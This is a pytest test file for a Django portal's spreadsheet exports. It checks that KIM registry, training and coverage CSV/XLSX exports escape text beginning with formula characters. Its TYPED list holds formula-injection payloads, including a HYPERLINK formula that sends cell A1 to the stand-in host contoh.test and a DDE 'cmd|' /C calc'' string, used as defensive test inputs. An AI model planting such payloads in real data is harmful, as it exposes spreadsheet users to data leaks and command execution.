"""Every spreadsheet the portal hands out keeps typed text that a spreadsheet program would run
as a formula (=, +, -, @, tab, CR at the start) as text: the admin's KIM registry export, the
trainings' participant and attendance lists, and the KIM coverage table."""

import csv
import io
from datetime import date

import pytest
import tablib
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import CSV
from groups.models import Kim
from groups.resources import COLUMNS, KimResource
from tests.factories import DistrictFactory, KimFactory, VillageFactory
from tests.trainings.factories import RegistrationFactory, TrainingFactory

pytestmark = pytest.mark.django_db

TYPED = [
    '=HYPERLINK("http://contoh.test/?q="&A1,"klik")',
    "+62 812 cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def csv_table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_text_cell(cell, typed):
    assert cell.data_type == "s", f"{typed!r} became a {cell.data_type!r} cell"
    # XML turns a lone CR into LF when the file is read back; the text is otherwise the same.
    assert cell.value == typed.replace("\r", "\n")


def admin_export(client, fmt: str) -> bytes:
    index = {"csv": "0", "xlsx": "1"}[fmt]
    fields = {f"kimresource_{column}": "on" for column in COLUMNS}
    response = client.post(
        reverse("admin:groups_kim_export"), {"format": index, "resource": "0", **fields}
    )
    assert response.status_code == 200
    return response.content


@pytest.fixture
def registry_kim(db):
    def make(typed):
        return KimFactory(
            name="KIM Bailangu",
            sk_number=typed,
            sk_issuer="Kepala Desa Bailangu",
            registration_number="KIM.ID-1606-001",
        )

    return make


@pytest.mark.parametrize("typed", TYPED)
def test_the_admin_kim_export_as_xlsx_keeps_formula_text_as_text(
    client_as, staff_user, registry_kim, typed
):
    registry_kim(typed)

    header, row = xlsx_cells(admin_export(client_as(staff_user), "xlsx"))

    assert [cell.value for cell in header] == COLUMNS
    assert_text_cell(row[COLUMNS.index("nomor_sk")], typed)
    assert row[COLUMNS.index("penerbit_sk")].value == "Kepala Desa Bailangu"


@pytest.mark.parametrize("typed", TYPED)
def test_the_admin_kim_export_as_csv_marks_formula_text_as_text(
    client_as, staff_user, registry_kim, typed
):
    registry_kim(typed)

    header, row = csv_table(admin_export(client_as(staff_user), "csv"))

    assert header == COLUMNS
    assert row[COLUMNS.index("nomor_sk")] == "'" + typed
    assert row[COLUMNS.index("penerbit_sk")] == "Kepala Desa Bailangu"


def test_the_admin_xlsx_export_keeps_dates_as_dates(client_as, staff_user, registry_kim):
    kim = registry_kim("=1+1")
    Kim.objects.filter(pk=kim.pk).update(sk_date=date(2023, 3, 14))

    header, row = xlsx_cells(admin_export(client_as(staff_user), "xlsx"))

    assert row[COLUMNS.index("tanggal_sk")].is_date
    assert row[COLUMNS.index("tanggal_sk")].value.date() == date(2023, 3, 14)


def test_an_exported_csv_imports_back_unchanged(client_as, staff_user):
    """The apostrophe is the export's mark: importing the same sheet again takes it off, so a
    KIM named "-" something is found again instead of registered a second time."""
    sekayu = DistrictFactory(code="16.06.01", name="Sekayu")
    village = VillageFactory(district=sekayu, code="16.06.01.2001", name="Sukarami")
    KimFactory(village=village, name="-KIM Sukarami-", sk_number="+62/SK/2023")

    content = admin_export(client_as(staff_user), "csv")
    assert "'-KIM Sukarami-" in content.decode("utf-8-sig")
    dataset = CSV(encoding="utf-8-sig").create_dataset(content)
    result = KimResource().import_data(dataset, user=staff_user)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    assert list(Kim.objects.values_list("name", "sk_number")) == [("-KIM Sukarami-", "+62/SK/2023")]


@pytest.mark.parametrize("typed", TYPED)
@pytest.mark.parametrize("kind", ["peserta", "rekap"])
def test_training_exports_keep_formula_text_as_text(client_as, staff_user, typed, kind):
    training = TrainingFactory(slug="jurnalistik")
    RegistrationFactory(training=training, name="Rina Utami", institution=typed)
    client = client_as(staff_user)
    column = 4 if kind == "peserta" else 2  # the institution

    xlsx = client.get(reverse("trainings:export", args=[training.slug, kind, "xlsx"])).content
    csv_ = client.get(reverse("trainings:export", args=[training.slug, kind, "csv"])).content

    assert_text_cell(xlsx_cells(xlsx)[1][column], typed)
    assert csv_table(csv_)[1][column] == "'" + typed


@pytest.mark.parametrize("typed", TYPED)
def test_the_coverage_csv_marks_formula_text_as_text(client, typed):
    sekayu = DistrictFactory(code="16.06.01", name="Sekayu")
    village = VillageFactory(district=sekayu, code="16.06.01.2001", name="Bailangu")
    KimFactory(village=village, name=typed)

    response = client.get(reverse("groups:coverage-region-csv", args=["16.06.01"]))

    assert response.status_code == 200
    header, row = csv_table(response.content)
    assert row[:2] == ["16.06.01.2001", "Bailangu"]
    assert row[4] == "'" + typed


def test_a_cell_that_only_starts_with_a_letter_or_digit_is_left_as_it_is():
    exported = CSV().export_data(tablib.Dataset(["Budi", "0812", 7, None], headers=list("abcd")))

    assert exported.splitlines()[1] == "Budi,0812,7,"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_turning_on_import_exports_own_escaping_changes_nothing(
    client_as, staff_user, registry_kim, settings, fmt
):
    """IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT deletes a leading "=": an operator who turns it
    on must not get the typed text changed, or marked twice."""
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
    typed = TYPED[0]
    registry_kim(typed)

    content = admin_export(client_as(staff_user), fmt)

    if fmt == "csv":
        assert csv_table(content)[1][COLUMNS.index("nomor_sk")] == "'" + typed
    else:
        assert_text_cell(xlsx_cells(content)[1][COLUMNS.index("nomor_sk")], typed)
